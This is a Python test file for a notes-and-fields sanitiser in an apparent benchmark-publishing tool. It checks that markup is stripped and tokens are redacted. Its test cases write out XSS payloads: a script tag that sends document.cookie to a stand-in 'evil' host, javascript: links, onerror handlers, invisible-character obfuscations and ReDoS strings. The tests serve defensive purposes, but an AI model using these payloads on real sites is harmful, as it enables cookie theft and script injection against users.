"""Notes and other free text become plain text: hostile markup goes, the words stay."""

from __future__ import annotations

import re
import time

import pytest

from runlocalai_bench.publish.notes import (
    HANDLE,
    MAX_FIELD,
    MAX_INPUT,
    MAX_NOTES,
    clean_field,
    clean_handle,
    clean_notes,
)

TOKEN = "ghp_" + "N" * 36


@pytest.mark.parametrize(("raw", "clean"), [
    ("ran overnight on a quiet box", "ran overnight on a quiet box"),
    ("hi <script>fetch('//evil/'+document.cookie)</script> there", "hi there"),
    ("<SCRIPT src=//evil/x.js></SCRIPT>ok", "ok"),
    ("&lt;script&gt;alert(1)&lt;/script&gt;ok", "ok"),
    ("&amp;lt;script&amp;gt;alert(1)", ""),
    ("<scr<script>ipt>alert(1)</script>after", ""),  # the broken tag runs to the end
    ("<img src=x onerror=alert(1)>ran on Q4", "ran on Q4"),
    ("<b>bold</b> and <a href='https://x'>link</a>", "bold and link"),
    ("<!-- hidden --><p>para</p>", "para"),
    ("see [my notes](javascript:alert(document.domain)) please", "see my notes please"),
    ("![pwn](https://evil/x.png) score looks right", "score looks right"),
    ("[x](https://e.com/a_(b)) tail", "x tail"),
    ("[ref]: javascript:alert(1)\nkept", "kept"),
    ("javascript:alert(1)", "alert(1)"),
    ("a < b and 5 > 3, <5% drift", "a < b and 5 > 3, <5% drift"),
    ("bell\x07 and rtl\u202eoverride", "bell and rtloverride"),
    ("line\r\n\r\n\r\n\r\nline2", "line\n\nline2"),
    (f"my token {TOKEN} oops", "my token [REDACTED] oops"),
    (None, ""),
    # invisible and look-alike characters go before markup is looked for, not after
    ("[x](java\u200bscript:alert(1))", "x"),
    ("java\u200bscript:alert(1)", "alert(1)"),
    ("\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54\uff1aalert(1)", "alert(1)"),
    ("<scr\u00adipt>alert(1)</script>ok", "ok"),
    ("java&#8203;script&#58;alert(1)", "alert(1)"),
    ("&#x3c;script&#x3e;alert(1)", ""),
    ("on\u200bclick=alert(1) done", "alert(1) done"),
    ("[r]:\n  javascript:alert(1)\nkept", "alert(1)\nkept"),
    # link text with brackets, and what is left of a link too deep for the patterns
    ("[a [b] c](https://evil) tail", "a [b] c tail"),
    ("[a [b [c] d] e](https://evil)", "[a [b [c] d] e] (https://evil)"),
    # the mask of a redacted token does not make a link
    (f"{TOKEN}(https://evil)", "REDACTED"),
])
def test_clean_notes(raw, clean):
    assert clean_notes(raw) == clean


def test_notes_are_capped():
    out = clean_notes("word " * 1000)
    assert len(out) == MAX_NOTES and out.endswith("…")
    assert clean_notes(out) == out  # cleaning the cut notes again (record.json's) keeps them


def test_the_home_path_is_redacted(monkeypatch, tmp_path):
    home = tmp_path / "alice"
    monkeypatch.setenv("HOME", str(home))
    assert clean_notes(f"model in {home}/models/x.gguf") == "model in ~/models/x.gguf"


@pytest.mark.parametrize("hostile", [
    "[" * 40_000, "[](" * 14_000, "[x](" * 10_000, "\n[" * 20_000, "<a" * 20_000,
    "&#" * 20_000, "((" * 20_000, "on" * 20_000, " \t" * 20_000, "<!--" * 10_000,
    "<script>" * 5_000, "\u200b" * 40_000,
])
def test_cleaning_is_linear(hostile):
    started = time.perf_counter()
    out = clean_notes(hostile)
    assert time.perf_counter() - started < 5  # generous: quadratic took 7 s on 40 KB of '['
    assert len(out) <= MAX_NOTES


def test_input_beyond_the_bound_is_not_looked_at():
    out = clean_notes("a" * MAX_INPUT + " <script>alert(1)</script>tail")
    assert len(out) == MAX_NOTES and out.endswith("…") and "tail" not in out


def test_no_javascript_link_survives_any_mix():
    """Random mixes of markup, entities, invisible and full-width characters: nothing that a
    further round would change, no javascript: scheme, no tag, no `](`, and cleaning twice
    gives the same text."""
    import random

    pieces = ["[", "]", "(", ")", "<", ">", "javascript", ":", "&", "#", ";", "lt", "gt",
              "amp", "\u200b", "x", " ", "\n", "script", "/", "on", "=", "!", "\uff4a",
              "&#58;", "&colon;", "data", "&#93;", "&#40;", "\u00ad"]
    rng = random.Random(17)
    for _ in range(3000):
        raw = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 30)))
        out = clean_notes(raw)
        assert not re.search(r"(?i)\bjavascript\s*:", out), raw
        assert not re.search(r"</?[A-Za-z!?]", out) and "](" not in out, raw
        assert clean_notes(out) == out, raw


def test_fields_are_one_line_plain_and_bounded():
    assert clean_field("Gemma\u200b <b>3</b>\n270M") == "Gemma 3 270M"
    assert clean_field("[Qwen](javascript:alert(1)) 1.5B") == "Qwen 1.5B"
    assert clean_field("<script>x</script>") is None
    assert clean_field(None) is None
    long = clean_field("m" * 1000)
    assert long is not None and len(long) == MAX_FIELD and long.endswith("…")


@pytest.mark.parametrize(("raw", "clean"), [
    ("alice", "alice"),
    ("  bob-42 ", "bob-42"),
    ("al\u200bice", "alice"),
    ("\uff41\uff4c\uff49\uff43\uff45", "alice"),  # full-width letters, NFKC
    ("alice@example.com", "alice@example.com"),
    ("a.b+tag@mail.example.org", "a.b+tag@mail.example.org"),
    ("", None),
    ("\u200b", None),
    (None, None),
])
def test_handles_are_normalised(raw, clean):
    assert clean_handle(raw) == clean
    assert clean is None or HANDLE.fullmatch(clean)


@pytest.mark.parametrize("bad", ["<img src=x>", "-lead", "a" * 40, "a@b", "@example.com",
                                 "alice@exa mple.com", "[x](javascript:1)@e.com",
                                 "alice@example.com\nbcc:x"])
def test_hostile_handles_do_not_match(bad):
    cleaned = clean_handle(bad)
    assert cleaned is None or not HANDLE.fullmatch(cleaned)
